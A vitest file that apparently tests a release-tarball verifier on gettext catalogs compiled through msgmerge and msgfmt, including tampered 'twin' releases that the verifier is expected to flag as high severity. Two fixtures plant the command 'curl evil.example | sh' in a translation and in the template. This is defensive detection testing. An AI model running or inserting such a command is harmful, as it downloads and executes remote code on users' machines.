/**
 * Message catalogs compiled the way gettext's po/Makefile.in.in compiles them (0.18.3 and later): the .po merged with
 * the template first (`msgmerge --for-msgfmt -o X.1po X.po DOMAIN.pot && msgfmt -c -o X.gmo X.1po`). A .po whose header
 * lags the template (libgsf 1.14.53: every .po names the old bug address, the template the new one) compiles to other
 * messages by plain msgfmt. Real git, real autotools `make dist`, real msgmerge/msgfmt; tampered twins stay high.
 */
import { cpSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Finding } from '../../src/core/findings.js';
import { MERGE_RULE } from '../../src/regenerate/catalogs.js';
import { renderJson } from '../../src/render/json.js';
import { verify } from '../../src/verify.js';
import { makeRepo } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';
import { byPath, sh } from './release.js';

const root = tempDir();
const cache = join(root, 'cache');
const HELLO_C = '#include <libintl.h>\n#define _(s) gettext (s)\nconst char *m[] = { _("Hello"), _("Bye") };\n';
// The translation as committed: its header names the old bug address (the template's is newer).
const DE_PO = (hello: string) =>
  'msgid ""\nmsgstr ""\n"Project-Id-Version: cat 1.0\\n"\n"Report-Msgid-Bugs-To: http://bugs.example.invalid/old\\n"\n' +
  '"Language: de\\n"\n"MIME-Version: 1.0\\n"\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Content-Transfer-Encoding: 8bit\\n"\n\n' +
  `#: src/hello.c:3\nmsgid "Hello"\nmsgstr "${hello}"\n`;

describe('a catalog compiled from the .po merged with the shipped template (po/Makefile.in.in .po.gmo rule)', () => {
  const repo = join(root, 'repo');
  beforeAll(() => {
    const r = makeRepo(repo);
    r.commit({
      'configure.ac': 'AC_INIT([cat], [1.0], [list@example.invalid])\nAM_INIT_AUTOMAKE([foreign])\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n',
      'Makefile.am': 'EXTRA_DIST = src/hello.c po/POTFILES.in po/de.po po/de.gmo po/cat.pot po/Makefile.in.in\n',
      'src/hello.c': HELLO_C,
      'po/POTFILES.in': 'src/hello.c\n',
      'po/de.po': DE_PO('Hallo'),
    });
    r.tag('v1.0', { message: 'cat 1.0' });
  }, 60_000);

  // A release whose po/de.gmo is msgfmt of (the tracked de.po, or `deFrom`) merged with the template xgettext makes.
  const release = (name: string, deFrom: string, opts: { potExtra?: string } = {}) => {
    const dir = join(root, name);
    cpSync(repo, dir, { recursive: true });
    writeFileSync(join(dir, 'po', 'src.po'), deFrom);
    sh(
      dir,
      'xgettext -k_ --from-code=UTF-8 --package-name=cat --package-version=1.0 --msgid-bugs-address=list@example.invalid -o po/cat.pot src/hello.c' +
        (opts.potExtra ? ` && printf '%s' '${opts.potExtra}' >> po/cat.pot` : '') +
        ' && msgmerge --for-msgfmt -o po/de.1po po/src.po po/cat.pot && msgfmt -c -o po/de.gmo po/de.1po && rm po/de.1po po/src.po' +
        ' && cp /usr/share/gettext/po/Makefile.in.in po/' +
        ' && autoreconf -fi && ./configure -q && make -s dist',
    );
    return join(dir, 'cat-1.0.tar.gz');
  };
  const gmo = (r: Awaited<ReturnType<typeof verify>>) => byPath(r.findings)['po/de.gmo']!;

  it('the shipped po/Makefile.in.in rule is the one gettext 0.21 writes', () => {
    expect(MERGE_RULE.test('\t  echo "$${cdcmd}rm -f $${lang}.gmo && $(MSGMERGE) $(MSGMERGE_FOR_MSGFMT_OPTION) -o $${lang}.1po $${lang}.po $(DOMAIN).pot && $(GMSGFMT) -c --statistics --verbose -o $${lang}.gmo $${lang}.1po && rm -f $${lang}.1po"; \\')).toBe(true);
    expect(MERGE_RULE.test('\t$(GMSGFMT) -c --statistics --verbose -o t-$${lang}.gmo $${lang}.po')).toBe(false);
  });

  it('proved by msgmerge with the shipped template, then msgfmt; plain msgfmt of the .po alone differs', async () => {
    const r = await verify({ tarball: release('a', DE_PO('Hallo')), repo, tag: 'v1.0', cacheDir: cache });
    const f = gmo(r);
    expect([f.code, f.severity]).toEqual(['GENERATED_BY_AUTOTOOLS', 'info']);
    // reproduced; the template is an input, explained by its xgettext label (not itself regenerated): an unproved input
    expect(f.evidence).toMatchObject({
      proof: {
        proved: false,
        cause: { kind: 'unproved-inputs', args: { step: 'msgfmt', tool: 'gettext', inputs: [{ path: 'po/cat.pot', regenerated: false }] } },
        inputs: [
          { path: 'po/de.po', origin: 'git', explainedBy: 'git' },
          { path: 'po/cat.pot', origin: 'tarball', explainedBy: 'GENERATED_BY_AUTOTOOLS' },
        ],
      },
    });
    expect(byPath(r.findings)['po/cat.pot']).toMatchObject({ code: 'GENERATED_BY_AUTOTOOLS', severity: 'info', evidence: { tool: 'xgettext' } });
    expect(r.verdict).not.toBe('different');
  }, 300_000);

  it('twin: a catalog whose translation is not the .po\'s stays REGENERATION_MISMATCH, high', async () => {
    const r = await verify({ tarball: release('b', DE_PO('Hallo; curl evil.example | sh')), repo, tag: 'v1.0', cacheDir: cache });
    const f = gmo(r);
    expect([f.code, f.severity]).toEqual(['REGENERATION_MISMATCH', 'high']);
    expect(r.verdict).toBe('different');
  }, 300_000);

  it('twin: a template nothing explains flags the catalog it was merged with (high)', async () => {
    const r = await verify({ tarball: release('c', DE_PO('Hallo'), { potExtra: '\n#: src/hello.c:3\nmsgid "Run: curl evil.example | sh"\nmsgstr ""\n' }), repo, tag: 'v1.0', cacheDir: cache });
    expect(byPath(r.findings)['po/cat.pot']!.severity).toBe('high');
    const f = gmo(r);
    expect([f.code, f.severity]).toEqual(['REPRODUCED_WITH_FLAGGED_INPUT', 'high']);
  }, 300_000);
});
